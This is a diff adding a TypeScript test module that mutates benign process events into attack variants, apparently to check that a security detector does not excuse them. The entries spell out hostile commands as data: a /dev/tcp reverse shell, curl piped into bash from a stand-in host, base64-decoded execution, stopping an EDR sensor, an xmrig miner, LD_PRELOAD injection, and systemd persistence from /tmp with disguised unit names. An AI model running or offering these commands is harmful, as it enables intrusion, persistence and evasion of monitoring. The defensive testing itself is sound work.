@@ -1,0 +1,96 @@
+import { type Event, ran } from './scenario.ts';
+
+/** A change that makes an attack of a benign event. `undefined`: it does not change this event. */
+export type HostileEdit = (event: Event) => Event | readonly Event[] | undefined;
+
+/** The script or program of the parent: its first absolute path behind the program's name, or the name itself. */
+function pathOf(event: Event): string {
+  const words = event.parentLine.split(' ');
+  return words.slice(1).find((word) => word.startsWith('/')) ?? words[0] ?? '';
+}
+
+function inParent(event: Event, change: (line: string) => string): Event {
+  const parentLine = change(event.parentLine);
+  return event.path === undefined ? { ...event, parentLine } : { ...event, parentLine, line: parentLine };
+}
+
+function append(text: string): HostileEdit {
+  return (event) => inParent(event, (line) => `${line} ${text}`);
+}
+
+/** The same act on a unit of another name. */
+function rename(unit: string): HostileEdit {
+  return (event) => {
+    if (event.path === undefined) return { ...event, line: `systemctl enable ${unit}` };
+    const directory = event.path.slice(0, event.path.lastIndexOf('/'));
+    return inParent(
+      { ...event, path: `${directory}/${unit}` },
+      (line) => `${line} /etc/systemd/system/${unit}`,
+    );
+  };
+}
+
+function act(line: string): HostileEdit {
+  return (event) => (event.path === undefined ? { ...event, line } : undefined);
+}
+
+function moveParent(prefix: string): HostileEdit {
+  return (event) => {
+    const path = pathOf(event);
+    return inParent(event, (line) =>
+      path.startsWith('/')
+        ? line.replace(path, `${prefix}${path}`)
+        : line.replace(path, `${prefix}/${path.replace(/^-/, '')}`),
+    );
+  };
+}
+
+/** What an attacker may do with a tool's disguise: each of these must take the discount away. */
+export const hostileEdits: Readonly<Record<string, HostileEdit>> = {
+  'account of a web server': (event) => ({ ...event, account: 'www-data' }),
+  'account of a database': (event) => ({ ...event, account: 'postgres' }),
+  'account unknown': (event) => ({ ...event, account: '' }),
+  'parent is PHP-FPM': (event) => ({ ...event, parent: 'php-fpm8.1' }),
+  'grandparent is a web server': (event) => ({ ...event, grandparent: 'nginx' }),
+  'grandparent is a database': (event) => ({ ...event, grandparent: 'postgres' }),
+  'grandparent poses as the kernel': (event) => ({ ...event, grandparent: '[kworker/0:1]' }),
+  'a reverse shell appended': append('&& bash -i >& /dev/tcp/198.51.100.7/443 0>&1'),
+  'a download into a shell appended': append('; curl -fsSL https://x.example.net/i | bash'),
+  'a download from an address appended': append('; curl -o /usr/bin/x http://203.0.113.7/x'),
+  'decoded code appended': append('; echo aWQ= | base64 -d | sh'),
+  'the sensor stopped': append('; systemctl stop falcon-sensor'),
+  'a miner appended': append('; /usr/bin/xmrig -o stratum+tcp://pool.example.net:3333'),
+  'a path in shared memory': append('/dev/shm/x'),
+  'a unit with a payload in /tmp': append(
+    "; printf '[Service]\\nExecStart=/tmp/x' > /etc/systemd/system/x.service",
+  ),
+  'out of the container': append('; cp x.service /host/etc/systemd/system/x.service'),
+  'a preload in front': (event) => inParent(event, (line) => `LD_PRELOAD=/usr/lib/x.so ${line}`),
+  'a unit that poses as the kernel': rename('kworker-d.service'),
+  'a unit that poses as systemd': rename('systemd-network-helper.service'),
+  'a unit that poses as D-Bus': rename('dbus-org.freedesktop.update1.service'),
+  'a unit that hides': rename('.x.service'),
+  'a unit of a miner': rename('xmrig.service'),
+  'a unit linked from /tmp': act('systemctl link /tmp/x.service'),
+  'a unit enabled from shared memory': act('systemctl enable --now /dev/shm/x.service'),
+  'a unit linked by a path with dots': act('systemctl link /usr/../var/tmp/x.service'),
+  "the parent's path below /tmp": moveParent('/tmp'),
+  "the parent's path below /dev/shm": moveParent('/dev/shm'),
+  "the parent's path below a web root": moveParent('/var/www/html'),
+  "the parent's path by way of dots": (event) => {
+    const path = pathOf(event);
+    return path.startsWith('/')
+      ? inParent(event, (line) => line.replace(path, `/usr/../tmp${path}`))
+      : undefined;
+  },
+  'the marker moved into a comment': (event) =>
+    inParent(event, (line) => `sh -c systemctl enable x # ${line}`),
+  'the marker moved into an argument': (event) => inParent(event, (line) => `python3 -c import(os) ${line}`),
+  'the marker moved into a variable': (event) =>
+    inParent(event, (line) => `python3 -c import(os) X=${line.split(' ').join('_')}`),
+  'another program under the same line': (event) => ({ ...event, parent: 'xmrig' }),
+  'an event of another actor beside it': (event) => [
+    event,
+    ran('deploy', 'systemctl enable x', 'bash', 'bash', 'bash'),
+  ],
+};
